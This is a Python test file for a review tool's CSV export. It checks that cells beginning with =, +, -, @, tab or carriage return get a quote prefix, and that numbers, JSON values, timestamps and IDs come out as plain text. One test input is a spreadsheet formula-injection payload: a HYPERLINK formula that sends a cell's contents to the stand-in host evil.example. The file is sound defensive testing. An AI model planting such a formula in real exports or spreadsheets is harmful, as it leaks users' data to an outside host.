"""CSV cells a spreadsheet would evaluate are neutralised; timestamps are plain ISO text."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime

import pytest

from reviewdesk.domain.export_formats import csv_bytes


def _read(rows: list[dict], columns: list[str]) -> list[list[str]]:
    text = b"".join(csv_bytes(rows, columns)).decode()
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        ),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("plain answer", "plain answer"),
        (" =1+1", " =1+1"),  # a leading space is not evaluated
        ("", ""),
    ],
)
def test_formula_cells_are_prefixed_with_a_quote(value, written):
    header, row = _read([{"comment": value}], ["comment"])
    assert header == ["comment"] and row == [written]


def test_numbers_stay_numbers_and_structures_stay_json():
    header, row = _read(
        [{"score": -0.5, "count": -3, "ok": True, "value": {"a": "=1"}, "tags": ["-x"], "none": None}],
        ["score", "count", "ok", "value", "tags", "none"],
    )
    assert row == ["-0.5", "-3", "True", '{"a":"=1"}', '["-x"]', ""]


def test_timestamps_and_ids_are_plain_text():
    at = datetime(2026, 11, 1, 12, 30, 5, 123000, tzinfo=UTC)
    some_id = uuid.UUID("0f9a6a3e-3a51-4c52-9d3c-2b8a7d0e9f10")
    _, row = _read([{"created_at": at, "id": some_id}], ["created_at", "id"])
    assert row == ["2026-11-01T12:30:05.123000Z", str(some_id)]
    assert datetime.fromisoformat(row[0]) == at


def test_header_cells_are_neutralised_too():
    header, row = _read([{"=cmd@example.com:quality": "good"}], ["=cmd@example.com:quality"])
    assert header == ["'=cmd@example.com:quality"] and row == ["good"]
